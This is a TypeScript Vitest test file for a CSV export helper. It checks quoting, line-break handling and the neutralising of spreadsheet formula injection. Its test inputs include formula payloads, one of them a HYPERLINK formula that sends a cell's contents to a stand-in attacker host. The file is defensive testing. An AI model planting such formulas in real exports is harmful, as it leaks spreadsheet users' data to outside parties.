import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv.ts';

/** What a spreadsheet reads back: Papa Parse stands in for it (RFC 4180). */
function readBack(csv: string): string[][] {
  return Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { newline: '\r\n', skipEmptyLines: true }).data;
}

describe('toCsv', () => {
  it('writes a byte-order mark, a header and one CRLF line per row, quoting what CSV needs quoted', () => {
    expect(
      toCsv(
        ['year', 'note'],
        [
          { year: 1, note: 'plain' },
          { year: 2, note: 'has, comma and "quotes"' },
          { year: 3, note: null },
        ],
      ),
    ).toBe('\uFEFFyear,note\r\n1,plain\r\n2,"has, comma and ""quotes"""\r\n3,\r\n');
    expect(toCsv(['a'], [])).toBe('\uFEFFa\r\n');
  });

  // Each cell an attacker sent as a lead or an RFQ line; `.` in Papa Parse's own test stops at a line break.
  it.each([
    ['=1+1\nAcme'],
    ['=HYPERLINK("http://evil.example/?x="&B2,"Click")\nthanks'],
    ['=3+3\u2028x'],
    ['+1\r2'],
    ['-2+3'],
    ['@SUM(A1:A2)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['\uFF1D1+1'],
    ['=1+1'],
  ])('neutralises %j on its first character, whatever follows', (cell) => {
    const csv = toCsv(['value'], [{ value: cell }]);
    expect(readBack(csv)).toEqual([['value'], [`'${cell}`]]);
  });

  it('leaves numbers, numeric text and ordinary text as they are', () => {
    expect([csvCell(-12.5), csvCell('-12.50'), csvCell('+3'), csvCell('1e5'), csvCell('Acme = good'), csvCell('a-b')]).toEqual([
      '-12.5',
      '-12.50',
      '+3',
      '1e5',
      'Acme = good',
      'a-b',
    ]);
  });

  it('quotes line breaks of every kind and edge spaces, so a spreadsheet keeps the cell whole', () => {
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('a\u2028b')).toBe('"a\u2028b"');
    expect(csvCell(' padded ')).toBe('" padded "');
    expect(readBack(toCsv(['a', 'b'], [{ a: 'x\r\ny', b: 'z' }]))).toEqual([
      ['a', 'b'],
      ['x\r\ny', 'z'],
    ]);
  });
});
